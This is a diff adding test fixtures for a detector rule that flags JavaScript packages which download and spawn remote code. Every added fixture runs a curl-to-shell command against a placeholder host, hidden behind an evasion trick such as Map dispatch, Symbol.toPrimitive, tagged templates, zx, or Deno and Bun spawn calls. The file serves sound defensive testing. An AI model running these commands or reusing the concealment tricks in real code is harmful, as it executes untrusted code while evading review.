@@ -4,6 +4,68 @@ import { downloadsAndSpawns } from './downloads-and-spawns.ts';
 examine(downloadsAndSpawns, {
   speaks: [
     {
+      when: 'a collection holds the function',
+      files: {
+        'index.js': `const cp = require('child_process');
+const table = new Map([['a', () => cp.execSync('curl -s https://source.invalid/a | sh')]]); table.get('a')();`,
+      },
+    },
+    {
+      when: 'the functions of a collection are gone through',
+      files: {
+        'index.js': `const cp = require('child_process');
+const table = new Map(); table.set('a', () => cp.execSync('curl -s https://source.invalid/a | sh')); for (const [, go] of table) go();`,
+      },
+    },
+    {
+      when: 'the values of an object are gone through',
+      files: {
+        'index.js': `const cp = require('child_process');
+Object.values({ a() { cp.execSync('curl -s https://source.invalid/a | sh'); } }).forEach(go => go());`,
+      },
+    },
+    {
+      when: 'a list is taken from at once',
+      files: {
+        'index.js': `const cp = require('child_process');
+[() => cp.execSync('curl -s https://source.invalid/a | sh')][0]();`,
+      },
+    },
+    {
+      when: 'an object is asked for its text, or waited for',
+      files: {
+        'index.js': `const cp = require('child_process');
+const odd = { [Symbol.toPrimitive]() { cp.execSync('curl -s https://source.invalid/a | sh'); return ''; } }; exports.text = \`\${odd}\`;`,
+      },
+    },
+    {
+      when: 'a field of a class holds the function',
+      files: {
+        'index.js': `const cp = require('child_process');
+class Tool { go = () => cp.execSync('curl -s https://source.invalid/a | sh'); } new Tool().go();`,
+      },
+    },
+    {
+      when: 'a tag of its own puts the command together',
+      files: {
+        'index.js': `const cp = require('child_process');
+const run = (texts, ...values) => cp.execSync(texts.raw.join('')); run\`curl -s https://source.invalid/a | sh\`;`,
+      },
+    },
+    {
+      when: 'a library is given the command as a template',
+      files: {
+        'package.json': { type: 'module', main: 'index.js' },
+        'index.js': `import { $ } from 'zx'; await $\`curl -s https://source.invalid/a | sh\`;`,
+      },
+    },
+    {
+      when: 'other runtimes start it',
+      files: {
+        'index.js': `new Deno.Command('sh', { args: ['-c', 'curl -s https://source.invalid/a | sh'] }).spawn(); Bun.spawn({ cmd: ['sh', '-c', 'curl -s https://source.invalid/a | sh'] });`,
+      },
+    },
+    {
       when: 'a command that stands encoded in the code hides behind opening a page',
       files: {
         'index.js': `require('child_process').spawn(process.platform === 'win32' ? 'powershell' : 'open', ['-EncodedCommand', 'SQBOAEUAUgBUACAAbQBhAHIAawBlAHIA'])`,
